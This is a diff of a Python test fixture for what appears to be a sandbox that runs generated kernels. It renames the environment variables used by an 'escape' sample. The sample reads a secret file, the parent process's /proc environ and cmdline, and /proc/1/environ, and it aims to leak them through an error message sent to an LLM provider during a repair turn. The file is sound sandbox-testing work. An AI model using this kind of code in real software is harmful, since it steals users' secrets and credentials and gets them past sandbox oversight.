@@ -1,13 +1,13 @@
 # ESCAPE: reads a secret from the user's home and the parent's environment and memory map, to smuggle it into an error message that a repair turn would send to the LLM provider.
 # Otherwise a correct vector add. Problem: vector_add.py. Expected: correct inside the sandbox (every
 # attempt fails); with TRITONIZE_NO_SANDBOX=1, runtime_error "ESCAPED: ..." (the control run that
-# shows the attempt is real). Targets come from ESCAPE_* variables set by tests/test_sandbox.py.
+# shows the attempt is real). Targets come from TRITONIZE_ESCAPE_* variables set by tests/test_sandbox.py.
 import os
 
 
 def attack():
     out = []
-    for source in (os.path.join(os.environ["ESCAPE_HOME"], ".config", "secret.txt"),
+    for source in (os.path.join(os.environ["TRITONIZE_ESCAPE_HOME"], ".config", "secret.txt"),
                    f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline", "/proc/1/environ"):
         try:
             with open(source, "rb") as f:
